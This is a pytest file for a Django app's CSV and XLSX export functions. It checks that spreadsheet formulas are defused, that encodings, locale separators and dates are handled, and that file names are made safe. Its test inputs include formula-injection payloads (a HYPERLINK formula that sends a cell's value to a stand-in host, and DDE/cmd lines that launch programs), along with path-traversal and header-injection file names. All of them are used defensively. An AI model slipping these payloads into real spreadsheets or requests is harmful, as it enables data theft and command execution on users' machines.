"""Exports: what a spreadsheet shows is what somebody wrote, and nothing of it runs."""

import csv
import io
import zipfile
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any

import pytest
from django.utils.translation import gettext, gettext_lazy, override
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core import exports

ATTACKS = [
    '=HYPERLINK("http://mechant.test/?v="&A1,"Cliquez ici")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
    "\tBonjour",
]
NAMES = ["Phạm Thị Đặng", "Wałęsa", "محمد", "O’Brien; fils", 'dit "Ti-Guy"', "04", "deux\nlignes", "1-800"]


def csv_text(rows: Iterable[list[Any]], **options: Any) -> str:
    response = exports.csv_response("Essai", ["Nom"], rows, **options)
    return b"".join(response).decode("utf-8")


def read_csv(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def xlsx_bytes(rows: Iterable[list[Any]], header: list[Any] | None = None) -> bytes:
    return b"".join(exports.xlsx_response("Essai", ["Nom"] if header is None else header, rows))


def read_xlsx(content: bytes) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_csv_cell_starts_a_formula(attack: str) -> None:
    (cell,) = read_csv(csv_text([[attack]]))[1]

    assert cell == f"'{attack}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_xlsx_cell_is_a_formula_even_once_edited(attack: str) -> None:
    content = xlsx_bytes([[attack]])

    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in sheet.replace("<formula", "<f")


def test_a_header_is_defused_too() -> None:
    text = b"".join(exports.csv_response("Essai", ["=1+1"], [])).decode()

    assert read_csv(text) == [["'=1+1"]]
    assert load_workbook(io.BytesIO(xlsx_bytes([], header=["=1+1"]))).active["A1"].data_type == "s"


@pytest.mark.parametrize("name", NAMES)
def test_other_texts_are_left_as_they_are(name: str) -> None:
    assert read_csv(csv_text([[name]]))[1] == [name]
    assert read_xlsx(xlsx_bytes([[name]])) == [(name,)]


@given(st.text())
def test_whatever_is_written_in_a_cell_is_a_text_and_stays_in_its_cell(text: str) -> None:
    rows = read_csv(csv_text([[text.replace("\x00", ""), "fin"]]))

    assert len(rows) == 2
    assert not exports.is_formula(rows[1][0])
    ((first, *_rest),) = read_xlsx(xlsx_bytes([[text, "fin"]]))
    assert first is None or isinstance(first, str)


def test_excel_is_told_that_the_text_is_utf_8() -> None:
    response = exports.csv_response("Essai", ["Prénom"], [])

    content = b"".join(response)
    assert content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_separators_are_those_excel_expects_in_the_readers_language() -> None:
    rows = [["a", Decimal("1234.50"), 0.5]]

    assert csv_text(rows).splitlines()[1] == "a;1234,50;0,5"
    with override("en"):
        assert csv_text(rows).splitlines()[1] == "a,1234.50,0.5"


def test_machines_get_commas_points_and_no_mark() -> None:
    text = csv_text([["é", Decimal("1.5"), date(2027, 3, 12)]], for_machines=True)

    assert text == "Nom\r\né,1.5,2027-03-12\r\n"


def test_values_of_a_csv() -> None:
    noon = datetime(2027, 7, 1, 16, tzinfo=UTC)
    row = [None, True, 7, -3, noon, datetime(2027, 7, 1, 9, 5), time(18, 30), date(2027, 7, 1), float("nan")]

    cells = read_csv(csv_text([[*row, gettext_lazy("Not verified")]]))[1]

    assert cells == [
        "",
        "Oui",
        "7",
        "-3",
        "2027-07-01 12:00",
        "2027-07-01 09:05",
        "18:30",
        "2027-07-01",
        "",
        "Non vérifié",
    ]


def test_values_of_an_xlsx_keep_their_kind() -> None:
    noon = datetime(2027, 7, 1, 16, tzinfo=UTC)
    row = [None, False, 7, Decimal("2.5"), noon, date(2027, 7, 1), time(18, 30), "0123", float("inf")]

    (read,) = read_xlsx(xlsx_bytes([row], header=list("abcdefghi")))

    assert read == (
        None,
        "Non",
        7,
        2.5,
        datetime(2027, 7, 1, 12),
        datetime(2027, 7, 1),
        time(18, 30),
        "0123",
        None,
    )


def test_dates_of_an_xlsx_are_shown_as_dates() -> None:
    page = load_workbook(io.BytesIO(xlsx_bytes([[date(2027, 7, 1), datetime(2027, 7, 1, 9)]]))).active

    assert page["A2"].is_date
    assert (page["A2"].number_format, page["B2"].number_format) == ("yyyy-mm-dd", "yyyy-mm-dd hh:mm")


def test_an_instant_is_told_in_the_zone_asked_for() -> None:
    noon = datetime(2027, 7, 1, 16, tzinfo=UTC)

    assert read_csv(csv_text([[noon]], zone="America/Halifax"))[1] == ["2027-07-01 13:00"]


def test_an_xlsx_keeps_its_header_in_sight_and_filters_over_all_rows() -> None:
    rows = [["a" * 100, 1]] * (exports.BATCH + 50)
    page = load_workbook(io.BytesIO(xlsx_bytes(rows, header=["Nom", "Nombre"]))).active

    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == f"A1:B{exports.BATCH + 51}"
    assert page.column_dimensions["A"].width == 60
    assert page["A1"].font.bold


@pytest.mark.parametrize("sheet", ["[Salon]: a/b?*", "x" * 50, "'", "", "\x01"])
def test_any_name_can_name_a_sheet(sheet: str) -> None:
    content = b"".join(exports.xlsx_response("Essai", ["Nom"], [], sheet=sheet))

    assert load_workbook(io.BytesIO(content)).active.title


def test_a_csv_is_sent_while_it_is_read() -> None:
    read: list[int] = []

    def rows() -> Iterator[list[int]]:
        for number in range(10 * exports.BATCH):
            read.append(number)
            yield [number]

    lines = iter(exports.csv_response("Essai", ["Numéro"], rows()))

    next(lines)
    assert len(read) == exports.BATCH - 1


def test_rows_are_read_in_the_language_of_the_request() -> None:
    with override("en"):
        response = exports.csv_response("Essai", ["Nom"], ([gettext("Not verified")] for _once in range(1)))

    assert read_csv(b"".join(response).decode(), ",")[1] == ["Not verified"]


@pytest.mark.parametrize(
    ("asked", "given_"),
    [
        ("Inscriptions – Salon de l’emploi.csv", "Inscriptions – Salon de l’emploi.csv"),
        ("../../etc/passwd", "etc passwd"),
        ('a/b\\c:d*e?f"g<h>i|j.xlsx', "a b c d e f g h i j.xlsx"),
        ("ligne\r\nX-Evil: 1.csv", "ligne X-Evil 1.csv"),
        ("CON.csv", "CON_.csv"),
        (".csv", "export.csv"),
        ("  .. ", "export"),
        ("v1.2 du salon", "v1.2 du salon"),
    ],
)
def test_a_file_name_is_one_that_every_system_takes(asked: str, given_: str) -> None:
    assert exports.safe_name(asked) == given_


def test_a_long_file_name_keeps_its_ending() -> None:
    name = exports.safe_name("é" * 300 + ".xlsx")

    assert len(name) == 120
    assert name.endswith(".xlsx")


def test_a_download_is_kept_by_no_cache_and_named_in_full() -> None:
    for response in (
        exports.csv_response("Prénoms", ["Nom"], []),
        exports.xlsx_response("Prénoms", ["Nom"], []),
    ):
        assert response["Cache-Control"] == "private, no-store"
        assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''Pr%C3%A9noms.")
        response.close()
